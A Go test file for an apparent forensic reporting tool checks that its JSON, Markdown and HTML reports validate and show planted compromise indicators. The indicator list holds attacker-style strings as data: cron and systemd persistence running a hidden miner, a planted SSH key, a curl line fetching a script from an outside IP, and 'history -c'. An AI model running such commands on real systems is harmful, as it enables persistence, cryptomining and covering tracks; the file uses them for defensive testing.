package report

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/santhosh-tekuri/jsonschema/v6"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/casefile-forensics/casefile/lambdas/investigation"
	"github.com/casefile-forensics/casefile/test/localaws/repo"
)

// compileSchema compiles docs/report.schema.json.
func compileSchema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	root, err := repo.Root()
	require.NoError(t, err)
	f, err := os.Open(filepath.Join(root, "docs", "report.schema.json"))
	require.NoError(t, err)
	defer f.Close()
	doc, err := jsonschema.UnmarshalJSON(f)
	require.NoError(t, err)
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	require.NoError(t, c.AddResource("report.schema.json", doc))
	schema, err := c.Compile("report.schema.json")
	require.NoError(t, err)
	return schema
}

// validate checks report.json against the schema.
func validate(t *testing.T, schema *jsonschema.Schema, content []byte) {
	t.Helper()
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(content))
	require.NoError(t, err, "report.json is JSON")
	assert.NoError(t, schema.Validate(doc), "report.json validates against docs/report.schema.json")
}

func TestReportOfRealResults(t *testing.T) {
	r := realResults(t)
	js, mdText, html := r.forms[investigation.ReportJSON], string(r.forms[investigation.ReportMarkdown]), htmlText(r.forms[investigation.ReportHTML])
	require.NotEmpty(t, js)
	require.NotEmpty(t, mdText)
	require.NotEmpty(t, html)

	validate(t, compileSchema(t), js)

	var got Report
	require.NoError(t, json.Unmarshal(js, &got))
	assert.Equal(t, realCase, got.Case.ForensicID)
	assert.Len(t, got.Analysis, 2, "the disk and the memory run")
	assert.Equal(t, len(r.artifacts), got.Artifacts.Total)

	planted := []struct{ name, text string }{
		{"cron persistence", "/etc/cron.d/sysupdate"},
		{"cron entry", "*/5 * * * * root /usr/local/bin/.kworker"},
		{"systemd persistence", "/etc/systemd/system/sysupdate.service"},
		{"systemd command", "ExecStart=/usr/local/bin/.kworker --url stratum+tcp://203.0.113.7:3333"},
		{"SUID helper", "/usr/local/bin/pkexec-helper"},
		{"dropped binary", "/usr/local/bin/.kworker"},
		{"SSH key", "/home/admin/.ssh/authorized_keys"},
		{"attacker's key", "AAAAC3NzaC1lZDI1NTE5AAAAIGF0dGFja2VyIGtleSBwbGFudGVkIGJ5IHRlc3Q="},
		{"shell history", "/root/.bash_history"},
		{"downloaded script", "curl -fsSL http://203.0.113.7/k.sh -o /tmp/k.sh"},
		{"history wiped", "history -c"},
		{"volatility stand-in", "0.0.0"},
		{"symbol table", "6.1.0-28-cloud-amd64.json.xz"},
	}
	for _, p := range planted {
		assert.True(t, strings.Contains(html, p.text), "report.html shows the %s: %q", p.name, p.text)
		assert.True(t, strings.Contains(unescapeMarkdown(mdText), p.text), "report.md shows the %s: %q", p.name, p.text)
	}
	for _, a := range r.artifacts {
		assert.True(t, strings.Contains(mdText, a.SHA256), "report.md lists %s with its SHA-256 %s", a.Key, a.SHA256)
		assert.True(t, strings.Contains(html, a.SHA256), "report.html lists %s with its SHA-256 %s", a.Key, a.SHA256)
	}
	for _, id := range []string{"CRON_SUSPICIOUS", "SYSTEMD_SUSPICIOUS", "SUID_UNUSUAL_LOCATION", "AUTHORIZED_KEYS", "HISTORY_SUSPICIOUS", "RECENT_SYSTEM_EXECUTABLES"} {
		assert.True(t, strings.Contains(unescapeMarkdown(mdText), id), "report.md names finding %s", id)
		assert.True(t, strings.Contains(html, id), "report.html names finding %s", id)
	}
	assert.Less(t, len(html), 256<<10, "report.html stays small")

	// Keep the three forms for people to look at.
	root, err := repo.Root()
	require.NoError(t, err)
	out := filepath.Join(root, "out", "report-sample")
	require.NoError(t, os.MkdirAll(out, 0o755))
	for form, content := range r.forms {
		require.NoError(t, os.WriteFile(filepath.Join(out, "report."+form), content, 0o644))
	}
	t.Logf("the report of the real results: %s/report.{json,md,html}", out)
}

// unescapeMarkdown undoes md's escapes, for substring checks.
func unescapeMarkdown(s string) string {
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) {
			i++
		}
		out = append(out, s[i])
	}
	return string(bytes.ReplaceAll(bytes.ReplaceAll(out, []byte("&lt;"), []byte("<")), []byte("&gt;"), []byte(">")))
}

func unmarshalJSON(content []byte) (any, error) {
	return jsonschema.UnmarshalJSON(bytes.NewReader(content))
}
